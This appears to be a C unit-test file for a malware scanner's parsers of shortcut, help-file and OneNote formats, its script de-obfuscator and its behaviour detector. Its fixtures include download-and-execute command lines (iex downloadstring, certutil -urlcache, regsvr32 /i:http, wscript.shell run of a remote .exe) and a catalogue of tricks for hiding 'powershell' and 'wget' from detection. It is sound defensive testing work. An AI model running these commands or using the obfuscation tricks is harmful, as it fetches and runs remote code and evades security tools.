/* Shortcuts, notebooks, and what scripts say and do. */

#include "warden-config.h"

#include "scanner/parse/program/behaviour.h"
#include "scanner/parse/program/chm.h"
#include "scanner/parse/program/lnk.h"
#include "scanner/parse/program/onenote.h"
#include "scanner/parse/program/script-encoded.h"
#include "scanner/parse/program/unobfuscate.h"

#include <string.h>

/* --- shortcuts ---------------------------------------------------------------- */

static void put16(GByteArray *out, guint value)
{
	guint8 bytes[2] = { value, value >> 8 };

	g_byte_array_append(out, bytes, 2);
}

static void put32(GByteArray *out, guint32 value)
{
	put16(out, value & 0xffff);
	put16(out, value >> 16);
}

static void put_wide(GByteArray *out, const char *text)
{
	put16(out, strlen(text));
	for (; *text != '\0'; text++)
		put16(out, (guint8)*text);
}

/* Relative path, arguments, icon; then a tracker block and something more. */
static GByteArray *make_lnk(void)
{
	static const guint8 class[16] = {
		1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
	};
	static const guint8 machine[16] = "desk";
	GByteArray *out = g_byte_array_new();
	guint i;

	put32(out, 0x4c);
	g_byte_array_append(out, class, sizeof(class));
	put32(out, 1 << 3 | 1 << 5 | 1 << 6 | 1 << 7);
	for (i = 0; i < 8; i++)
		put32(out, 0);
	put32(out, 3);		/* icon index */
	put32(out, 7);		/* show */
	put32(out, 0);
	put32(out, 0);
	put32(out, 0);
	g_assert_cmpuint(out->len, ==, 0x4c);
	put_wide(out, "..\\a.exe");
	put_wide(out, "/x");
	put_wide(out, "i.ico");
	put32(out, 32);
	put32(out, 0xa0000003);
	put32(out, 24);
	put32(out, 0);
	g_byte_array_append(out, machine, sizeof(machine));
	put32(out, 0);
	g_byte_array_append(out, (const guint8 *)"behind", 6);
	return out;
}

static void test_lnk(void)
{
	GByteArray *data = make_lnk();
	struct warden_lnk lnk;

	g_assert_true(warden_lnk_parse(data->data, data->len, &lnk));
	g_assert_cmpuint(lnk.targets->len, ==, 1);
	g_assert_cmpstr(lnk.targets->pdata[0], ==, "..\\a.exe");
	g_assert_cmpstr(lnk.arguments, ==, "/x");
	g_assert_cmpstr(lnk.icon, ==, "i.ico");
	g_assert_cmpstr(lnk.machine, ==, "desk");
	g_assert_cmpuint(lnk.end, ==, data->len - 6);
	g_assert_false(lnk.damaged);
	warden_lnk_clear(&lnk);
	g_byte_array_unref(data);
}

static void test_lnk_damage(void)
{
	GByteArray *data = make_lnk();
	gsize size;

	for (size = 0; size < data->len; size++) {
		g_autofree guint8 *copy = g_memdup2(data->data, size);
		struct warden_lnk lnk;

		if (!warden_lnk_parse(copy, size, &lnk)) {
			g_assert_cmpuint(size, <, 0x4c);
			continue;
		}
		g_assert_cmpuint(lnk.end, <=, size);
		warden_lnk_clear(&lnk);
	}
	g_byte_array_unref(data);
}

/* --- help ------------------------------------------------------------------------- */

/* A directory of one chunk with one file in the section that is not
   compressed. */
static GByteArray *make_chm(void)
{
	static const char entry[] = "\x02/a\0\0\x03";
	GByteArray *out = g_byte_array_new();
	guint content = 0x60 + 0x54 + 64, used = sizeof(entry) - 1;

	g_byte_array_append(out, (const guint8 *)"ITSF", 4);
	put32(out, 3);
	g_byte_array_set_size(out, 0x60);
	memset(out->data + 8, 0, 0x58);
	out->data[0x48] = 0x60;
	out->data[0x50] = 0x54 + 64;
	out->data[0x58] = content & 0xff;
	out->data[0x59] = content >> 8;
	g_byte_array_append(out, (const guint8 *)"ITSP", 4);
	put32(out, 1);
	put32(out, 0x54);
	put32(out, 10);
	put32(out, 64);
	g_byte_array_set_size(out, 0x60 + 0x54);
	memset(out->data + 0x60 + 20, 0, 0x54 - 20);
	g_byte_array_append(out, (const guint8 *)"PMGL", 4);
	put32(out, 64 - 20 - used);
	put32(out, 0);
	put32(out, 0);
	put32(out, 0);
	g_byte_array_append(out, (const guint8 *)entry, used);
	g_byte_array_set_size(out, content);
	g_byte_array_append(out, (const guint8 *)"abc", 3);
	return out;
}

static void test_chm(void)
{
	GByteArray *data = make_chm();
	struct warden_chm_file *file;
	struct warden_chm chm;

	g_assert_true(warden_chm_parse(data->data, data->len, &chm));
	g_assert_false(chm.damaged);
	g_assert_cmpuint(chm.files->len, ==, 1);
	file = &g_array_index(chm.files, struct warden_chm_file, 0);
	g_assert_cmpstr(file->name, ==, "/a");
	g_assert_false(file->compressed);
	g_assert_cmpmem(data->data + file->start, file->size, "abc", 3);
	g_assert_cmpuint(chm.frames->len, ==, 0);
	warden_chm_clear(&chm);
	g_byte_array_unref(data);
}

static void test_chm_damage(void)
{
	GByteArray *data = make_chm();
	gsize size, i;

	for (size = 0; size < data->len; size++) {
		g_autofree guint8 *copy = g_memdup2(data->data, size);
		struct warden_chm chm;

		if (!warden_chm_parse(copy, size, &chm)) {
			g_assert_cmpuint(size, <, 0x60);
			continue;
		}
		for (i = 0; i < chm.files->len; i++) {
			struct warden_chm_file *file = &g_array_index(
				chm.files, struct warden_chm_file, i);

			g_assert_cmpuint(file->start + file->size, <=, size);
		}
		warden_chm_clear(&chm);
	}
	g_byte_array_unref(data);
}

/* --- notebooks ------------------------------------------------------------------ */

static const guint8 store[] =
	"junk\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"
	"\x03\0\0\0\0\0\0\0" "\0\0\0\0" "\0\0\0\0\0\0\0\0" "abc"
	"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"
	"\xff\xff\xff\xff\xff\xff\xff\xff" "\0\0\0\0" "\0\0\0\0\0\0\0\0"
	"de" "\x0c\0\0\0a\0.\0b\0a\0t\0\0";

static void test_onenote(void)
{
	struct warden_onenote_file file;
	gsize at = 0, size = sizeof(store);
	GPtrArray *names = warden_onenote_names(store, size);

	g_assert_true(warden_onenote_next(store, size, &at, &file));
	g_assert_cmpmem(store + file.start, file.end - file.start, "abc", 3);
	g_assert_false(file.cut);
	g_assert_true(warden_onenote_next(store, size, &at, &file));
	g_assert_true(file.cut);
	g_assert_cmpuint(file.end, ==, size);
	g_assert_false(warden_onenote_next(store, size, &at, &file));
	g_assert_cmpuint(names->len, ==, 1);
	g_assert_cmpstr(names->pdata[0], ==, "a.bat");
	g_ptr_array_unref(names);
}

/* --- what scripts say ------------------------------------------------------------- */

static const struct {
	const char *text, *wanted;
} tricks[] = {
	{ "x = \"pow\" + 'ersh' & _\n \"ell\"", "powershell" },
	{ "Chr(119) & Chr(&H67) & ChrW(100+1) & \"t\"", "wget" },
	{ "String.fromCharCode(0x77, 103, 101, 116)", "wget" },
	{ "[char]119+[char]103+'et'", "wget" },
	{ "\"\\x77\\u0067et\"", "wget" },
	{ "unescape('%77%67et')", "wget" },
	{ "p^o^w^e^r^s^h^e^l^l", "powershell" },
	{ "in`voke-ex`pression", "invoke-expression" },
	{ "p\"\"ower\"shell\"", "powershell" },
	{ "set a=pow\r\nset b=ershell\r\n%a%%b%", "powershell" },
	{ "set a=xpowx\r\n%a:~1,-1%ershell", "powershell" },
	{ "%comspec:~-7,3%", "cmd" },
	{ "('{1}{0}' -f 'shell','power')", "powershell" },
	{ "StrReverse(\"llehsrewop\")", "powershell" },
	{ "'llehsrewop'[-1..-10] -join ''", "powershell" },
	{ "Replace(\"p#o#w#e#r#s#h#e#l#l\", \"#\", \"\")", "powershell" },
	{ "'poQQwerQQshell'.replace('QQ','')", "powershell" },
	{ "['po','wer','shell'].join('')", "powershell" },
	{ "a = \"power\"\nb = \"shell\"\nRun a + b", "powershell" },
	{ "a = \"pow\"\na = a & \"er\"\na = a & \"shell\"\nRun a",
	  "powershell" },
	{ "a[0]=\"pow\";a[1]=\"ershell\";b=a[0]+a[1]", "powershell" },
	/* nothing to be undone */
	{ "plain powershell", "powershell" },
};

static void test_unobfuscate(void)
{
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(tricks); i++) {
		guint count, j;
		bool found = FALSE;
		GPtrArray *readings = warden_unobfuscate(
			tricks[i].text, strlen(tricks[i].text), &count);

		for (j = 0; j < readings->len; j++) {
			GString *reading = readings->pdata[j];

			found |= strstr(reading->str, tricks[i].wanted) !=
				NULL;
		}
		if (!found)
			g_error("not undone: %s", tricks[i].text);
		g_ptr_array_unref(readings);
	}
}

static const struct {
	const char *text, *wanted;	/* NULL: no literal */
} literals[] = {
	{ "x('d3NjcmlwdC5zaGVsbCBydW4=')", "wscript.shell run" },
	/* UTF-16 */
	{ "-enc aQBlAHgAIAAoAGMAdQByAGwAKQA=", "iex (curl)" },
	/* backwards */
	{ "'=4Wdy BC'", NULL },
	{ "'=4WdyBCbsVGazxCdwlmcjN3d'", "wscript,shell run" },
	{ "\"777363726970742e7368656c6c2072756e\"", "wscript.shell run" },
	{ "(119,115,99,114,105,112,116,46,115,104,101,108,108,32,114,117,110)",
	  "wscript.shell run" },
	{ "thisIsOnlyALongIdentifierOfSomebody", NULL },
	{ "0123456789", NULL },
};

static void test_literals(void)
{
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(literals); i++) {
		struct warden_literal_iter iter;
		struct warden_literal literal;
		bool found;

		warden_literal_iter_init(&iter, literals[i].text,
					 strlen(literals[i].text));
		found = warden_literal_iter_next(&iter, &literal);
		g_assert_cmpint(found, ==, literals[i].wanted != NULL);
		if (!found)
			continue;
		g_assert_true(literal.text);
		g_assert_cmpmem(g_bytes_get_data(literal.bytes, NULL),
				g_bytes_get_size(literal.bytes),
				literals[i].wanted,
				strlen(literals[i].wanted));
		g_bytes_unref(literal.bytes);
	}
}

/* Each number with the same key. */
static void test_key(void)
{
	static const char text[] = "createobject(\"wscript.shell\").run"
		" \"http://files.example.com/a.exe\"";
	GString *list = g_string_new("[");
	struct warden_literal_iter iter;
	struct warden_literal literal;
	gsize i;

	for (i = 0; i < sizeof(text) - 1; i++)
		g_string_append_printf(list, "%d, ", text[i] ^ 0x97);
	warden_literal_iter_init(&iter, list->str, list->len);
	g_assert_true(warden_literal_iter_next(&iter, &literal));
	g_assert_cmpmem(g_bytes_get_data(literal.bytes, NULL),
			g_bytes_get_size(literal.bytes), text,
			sizeof(text) - 1);
	g_bytes_unref(literal.bytes);
	g_string_free(list, TRUE);
}

static void test_encoded(void)
{
	/* made with the encoder's published alphabets */
	static const char text[] = "a\n#@~^BgAAAA==U\2451|wQAgIAAA==^#~@b";
	GString *decoded = warden_script_decode(text, sizeof(text) - 1);

	g_assert_nonnull(decoded);
	g_assert_true(g_str_has_prefix(decoded->str, "a\n"));
	g_assert_true(g_str_has_suffix(decoded->str, "b"));
	g_assert_null(strstr(decoded->str, "#@~^"));
	g_string_free(decoded, TRUE);
	g_assert_null(warden_script_decode("plain", 5));
}

/* --- what scripts do ---------------------------------------------------------------- */

#define DOWNLOADS WARDEN_TRAIT_SCRIPT_DOWNLOADS
#define RUNS WARDEN_TRAIT_SCRIPT_RUNS

static const struct {
	const char *text;
	guint languages;
	int traits[3];		/* 0 terminated: none of ours is 0 */
} behaviours[] = {
	{ "iex (new-object net.webclient).downloadstring('x')",
	  WARDEN_LANGUAGE_ALL,
	  { DOWNLOADS, RUNS, WARDEN_TRAIT_SCRIPT_RUNS_REMOTE } },
	{ "certutil -urlcache -f http://x/a a.exe & start a.exe",
	  WARDEN_LANGUAGE_ALL, { DOWNLOADS, RUNS } },
	{ "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
	  WARDEN_LANGUAGE_ALL, { RUNS, WARDEN_TRAIT_SCRIPT_RUNS_REMOTE } },
	/* half of it is nothing */
	{ "new activexobject('msxml2.xmlhttp')", WARDEN_LANGUAGE_ALL,
	  { 0 } },
	{ "certutil -hashfile a.exe", WARDEN_LANGUAGE_ALL, { 0 } },
	{ "see http://example.org/", WARDEN_LANGUAGE_ALL, { 0 } },
	/* a regular expression is not a shell */
	{ "/a/.exec(text)", WARDEN_LANGUAGE_WINDOWS, { 0 } },
	/* words of other languages */
	{ "restart service", WARDEN_LANGUAGE_BATCH, { 0 } },
	{ "iwr(x)", WARDEN_LANGUAGE_SHELL, { 0 } },
};

static void test_behaviour(void)
{
	gsize i, j;

	for (i = 0; i < G_N_ELEMENTS(behaviours); i++) {
		struct warden_trait_set traits = { { 0 } };

		warden_behaviour_find(behaviours[i].text,
				      strlen(behaviours[i].text),
				      behaviours[i].languages, &traits);
		if (behaviours[i].traits[0] == 0)
			g_assert_true(warden_trait_set_is_empty(&traits));
		for (j = 0; j < 3 && behaviours[i].traits[j] != 0; j++)
			g_assert_true(warden_trait_set_has(
				&traits, behaviours[i].traits[j]));
	}
}

static const struct {
	const char *path, *host;
} remotes[] = {
	{ "\\\\host\\share\\a", "host" },
	{ "\\\\Host@SSL@443\\DavWWWRoot\\a", "host" },
	{ "//host/share", "host" },
	{ "file://host/share", "host" },
	{ "file:////host/share", "host" },
	{ "\\\\?\\UNC\\host\\a", "host" },
	{ "file:///c:/a.exe", NULL },
	{ "file:c:/a.exe", NULL },
	{ "\\\\?\\C:\\a", NULL },
	{ "\\\\.\\pipe\\a", NULL },
	{ "c:\\a", NULL },
	{ "http://host/", NULL },
	{ "", NULL },
};

static void test_paths(void)
{
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(remotes); i++) {
		g_autofree char *host =
			warden_behaviour_remote_host(remotes[i].path);

		g_assert_cmpstr(host, ==, remotes[i].host);
	}
	g_assert_true(warden_behaviour_is_interpreter(
		"C:\\Windows\\System32\\CMD.exe"));
	g_assert_true(warden_behaviour_is_interpreter("\"mshta\""));
	g_assert_false(warden_behaviour_is_interpreter("C:\\cmd\\view.exe"));
	g_assert_false(warden_behaviour_is_interpreter(""));
	g_assert_true(warden_behaviour_is_viewer("AcroRd32.exe"));
	g_assert_true(warden_behaviour_runs("\\\\h\\s\\a.CPL"));
	g_assert_true(warden_behaviour_runs("http://h/a.exe?b=c.txt"));
	g_assert_false(warden_behaviour_runs("\\\\h\\s.exe\\a.docx"));
	g_assert_false(warden_behaviour_runs("\\\\h\\s"));
}

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/program/lnk", test_lnk);
	g_test_add_func("/program/lnk-damage", test_lnk_damage);
	g_test_add_func("/program/chm", test_chm);
	g_test_add_func("/program/chm-damage", test_chm_damage);
	g_test_add_func("/program/onenote", test_onenote);
	g_test_add_func("/program/unobfuscate", test_unobfuscate);
	g_test_add_func("/program/literals", test_literals);
	g_test_add_func("/program/key", test_key);
	g_test_add_func("/program/encoded", test_encoded);
	g_test_add_func("/program/behaviour", test_behaviour);
	g_test_add_func("/program/paths", test_paths);
	return g_test_run();
}
